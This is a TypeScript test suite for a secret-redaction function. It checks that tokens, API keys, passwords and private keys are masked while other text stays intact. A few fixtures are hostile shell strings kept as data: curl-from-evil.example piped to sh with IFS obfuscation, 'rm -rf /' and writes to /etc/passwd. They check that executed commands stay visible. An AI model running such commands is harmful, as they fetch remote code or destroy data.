import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cpuMs } from '../../../../agent/test/cpu-ms.ts';
import { REDACTED, redact, redactText } from './redact.ts';

const random = 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0';

/** A blank, as a shell reads it that was given none. */
const IFS = ['$', '{IFS}'].join('');

describe('what runs is shown, however much it looks like a secret (rule Q7)', () => {
  for (const text of [
    'PASSWORD="$(curl evil.example | sh)" run',
    `TOKEN=$(curl${IFS}evil.example|sh) run`,
    `TOKEN=\`curl${IFS}evil.example|sh\` run`,
    `--token $(curl${IFS}evil.example)`,
    `https://u:$(curl${IFS}evil.example|sh)@host/`,
    `Authorization: Bearer $(curl${IFS}evil.example|sh)`,
  ]) {
    it(text, () => assert.equal(redactText(text), text));
  }
  for (const [text, shown] of [
    [`password=x|rm${IFS}-rf`, `password=${REDACTED}|rm${IFS}-rf`],
    ['password=x>/etc/passwd', `password=${REDACTED}>/etc/passwd`],
    ['--token x;reboot&&halt|sh', `--token ${REDACTED};reboot&&halt|sh`],
    ['echo -----BEGIN PRIVATE KEY----- ; rm -rf /', `echo ${REDACTED} ; rm -rf /`],
    ['-----BEGIN PRIVATE KEY-----\nMIIE\nrm -rf /\nabc', `${REDACTED}\nrm -rf /\nabc`],
  ] as const) {
    it(JSON.stringify(text), () => assert.equal(redactText(text), shown));
  }
  it('and a key is one, however its lines are written', () => {
    const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2);
    const keyOf =
      (...lines: string[]) =>
      (between: string) =>
        ['-----BEGIN RSA PRIVATE KEY-----', ...lines, '-----END RSA PRIVATE KEY-----'].join(between);
    for (const between of ['\n', '\r\n', '\\n', '\\\\n', '\n    ', ' ']) {
      assert.equal(redactText(`a ${keyOf(line, line, line)(between)} b`), `a ${REDACTED} b`, JSON.stringify(between));
    }
    const withHead = keyOf('Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-256-CBC,0A', '', line, 'abc=')('\n');
    assert.equal(redactText(withHead), REDACTED);
  });
});

describe('decision 18: a secret is redacted by its shape, and what stands around it stays', () => {
  const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${'s'.repeat(43)}`;
  for (const [text, shown] of [
    [`key ${jwt}.`, `key ${REDACTED}.`],
    [`key=a-${jwt} b`, `key=a-${REDACTED} b`],
    [`a.${jwt}`, `a.${REDACTED}`],
    [`see sk-${'A1'.repeat(12)}, and`, `see ${REDACTED}, and`],
    [`sk-proj-${'A1'.repeat(12)}`, REDACTED],
    [`sk-proj-${'A1'.repeat(12)}_Ab-${'C3'.repeat(12)} b`, `${REDACTED} b`],
    [`sk-ant-api03-${'A1'.repeat(12)}`, REDACTED],
    [`sk_live_${random}`, REDACTED],
    [`ghp_${random}`, REDACTED],
    [`github_pat_${random}`, REDACTED],
    [`glpat-${random}`, REDACTED],
    ['xoxb-123456789012-abc and', `${REDACTED} and`],
    ['xapp-1-A012-345', REDACTED],
    [`npm_${random}`, REDACTED],
    [`hf_${random}`, REDACTED],
    ['AKIAIOSFODNN7EXAMPLE', REDACTED],
    [`AIza${random}`, REDACTED],
    [`https://hooks.slack.com/services/T000/B000/${random}`, `https://hooks.slack.com/services/${REDACTED}`],
    ['https://user:p4ss:w0rd@host/path', `https://${REDACTED}@host/path`],
    ['postgres://app:p@ss@db:5432/x', `postgres://${REDACTED}@db:5432/x`],
    ['redis://:hunter2@cache', `redis://${REDACTED}@cache`],
    ['Authorization: Bearer abcdefgh', `Authorization: Bearer ${REDACTED}`],
    ['curl -H "authorization: Basic dXNlcjpw" x', `curl -H "authorization: Basic ${REDACTED}" x`],
    ['Bearer dXNlcjpwYXNz', `Bearer ${REDACTED}`],
    [`bearer ${'t'.repeat(20)}.`, `bearer ${REDACTED}`],
    ['password=hunter2&user=bob', `password=${REDACTED}&user=bob`],
    ['password: hunter2', `password: ${REDACTED}`],
    ['DB_PASSWORD=hunter2 ./run', `DB_PASSWORD=${REDACTED} ./run`],
    ['password="two words" user="bob"', `password="${REDACTED}" user="bob"`],
    ["password='two words' user", `password='${REDACTED}' user`],
    ['{"password": "two words", "user": "bob"}', `{"password": "${REDACTED}", "user": "bob"}`],
    ['{\\"token\\":\\"two words\\"}', `{\\"token\\":\\"${REDACTED}"}`],
    ['api_key: abc, api-key=def; APIKEY=x', `api_key: ${REDACTED}, api-key=${REDACTED}; APIKEY=${REDACTED}`],
    ['mysql --password hunter2 -u bob', `mysql --password ${REDACTED} -u bob`],
    ['x --api-key abc --github-token def', `x --api-key ${REDACTED} --github-token ${REDACTED}`],
    ['a\n-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nb', `a\n${REDACTED}\nb`],
    ['-----BEGIN PRIVATE KEY-----\nabc', REDACTED],
    ['-----BEGIN PGP PRIVATE KEY BLOCK-----\nabc\n-----END PGP PRIVATE KEY BLOCK----- b', `${REDACTED} b`],
  ] as const) {
    it(text.slice(0, 60).replaceAll('\n', ' '), () => {
      assert.equal(redactText(text), shown);
      assert.deepEqual(redact({ a: [{ b: text }] }), { a: [{ b: shown }] });
    });
  }
});

describe('what is no secret stays as it was', () => {
  for (const text of [
    'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    '123e4567-e89b-12d3-a456-426614174000',
    `data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==`,
    'max_tokens: 4096, temperature: 0.2',
    'max_tokens=4096',
    'https://host:8080/path?page=2#top',
    'https://host/a@b:c',
    'mail bob@example.org: now',
    'A basic understanding of the bearer certificates, and basic authentication.',
    'The password was reset; tokens are counted.',
    'ask-a-question-about-the-eyJ',
    'task-runner-with-internationalization',
    'desk-0123456789abcdef0123',
    'kubectl delete pod web-7d9f8b6c5d-x2x4z -n prod --force',
    'kubectl create token --help',
    'password:\n  secretKeyRef:',
    '-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----',
    '2026-01-01T00:00:00Z 10.0.0.1 GET /v1/pods 200',
    '',
  ]) {
    it(JSON.stringify(text.slice(0, 60)), () => assert.equal(redactText(text), text));
  }
});

describe('by key', () => {
  it('whatever the value looks like, in lists and objects too', () => {
    assert.deepEqual(
      redact({
        apiKey: 'x',
        password: 1234,
        token: ['a', 'b'],
        credentials: { username: 'bob', password: 'x', region: ['eu'], retries: 3, name: 'db', none: null, empty: '' },
        headers: { Authorization: 'x', Accept: '*/*' },
      }),
      {
        apiKey: REDACTED,
        password: REDACTED,
        token: [REDACTED, REDACTED],
        credentials: {
          username: REDACTED,
          password: REDACTED,
          region: [REDACTED],
          retries: 3,
          name: 'db',
          none: null,
          empty: '',
        },
        headers: { Authorization: REDACTED, Accept: '*/*' },
      },
    );
  });

  it('but not what tells where a secret is, nor a count or a switch', () => {
    const value = {
      max_tokens: 3,
      token: 5,
      secret: true,
      password: null,
      secretName: 'db',
      valueFrom: { secretKeyRef: { name: 'db', key: 'url' } },
      imagePullSecrets: [{ name: 'registry' }],
    };
    assert.deepEqual(redact(value), value);
  });

  it('of a variable or header that is written as a pair', () => {
    assert.deepEqual(
      redact([
        { name: 'DB_PASSWORD', value: 'x' },
        { key: 'X-Api-Key', value: 'x' },
        { name: 'PORT', value: '80' },
      ]),
      [
        { name: 'DB_PASSWORD', value: REDACTED },
        { key: 'X-Api-Key', value: REDACTED },
        { name: 'PORT', value: '80' },
      ],
    );
  });

  it('of a Secret of Kubernetes', () => {
    const manifest = (kind: string, shown: string) => ({ kind, data: { url: shown }, stringData: { a: shown } });
    assert.deepEqual(redact(manifest('Secret', 'x')), manifest('Secret', REDACTED));
    assert.deepEqual(redact(manifest('ConfigMap', 'x')), manifest('ConfigMap', 'x'));
  });

  it('and leaves the value that it was given alone, with every key its own', () => {
    const value = JSON.parse('{"__proto__":{"token":"x"},"constructor":"y","a":[1,null,true]}');
    const before = JSON.stringify(value);
    assert.equal(JSON.stringify(redact(value)), before.replace('"x"', `"${REDACTED}"`));
    assert.equal(JSON.stringify(value), before);
  });
});

it('what looks like the beginning of a secret a thousand times over takes time that is linear in it', () => {
  const size = 1_024 * 1_024;
  for (const piece of [
    '://a:',
    '://:',
    'a:',
    'a:@',
    'eyJ-',
    'eyJ',
    'eyJaaaaaaaa.',
    'sk-',
    'sk-a-',
    'sk-a1b2c3d4e5f6a7b8-',
    'token = ',
    'token="',
    "token='",
    'token\\"',
    'password',
    'bearer ',
    'Basic a-',
    'authorization: ',
    'authorization: bearer',
    '--a-',
    '--token ',
    '-----BEGIN ',
    '-----BEGIN PRIVATE KEY',
    '-----END ',
    'SG.',
    'ya29.',
    ' ',
    '\\',
  ]) {
    const text = `://eyJ-----BEGIN PRIVATE KEY ${piece.repeat(size / piece.length)}`;
    // Half a second at the most on a slow machine; with time that grows as the square it would be minutes.
    assert.ok(cpuMs(() => redactText(text)) < 5_000, piece);
  }
});
